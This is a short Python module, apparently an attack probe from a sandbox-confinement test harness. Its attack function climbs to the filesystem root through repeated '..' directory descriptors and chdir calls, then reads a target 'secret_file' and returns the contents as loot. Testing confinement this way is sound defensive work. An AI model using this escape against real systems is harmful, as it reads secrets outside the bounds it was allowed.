"""Climb from scratch to the root by `..` and by folder descriptors, then down to the secret."""

import contextlib
import os


def attack(target):
    down = target["secret_file"].lstrip("/")
    loot = []
    with contextlib.suppress(OSError):
        here = os.open(".", os.O_PATH | os.O_DIRECTORY)
        for _ in range(30):
            here = os.open("..", os.O_PATH | os.O_DIRECTORY, dir_fd=here)
        loot.append(os.read(os.open(down, os.O_RDONLY, dir_fd=here), 100).decode())
    with contextlib.suppress(OSError):
        os.chdir("../" * 30)
        with open(down) as file:
            loot.append(file.read())
    return loot
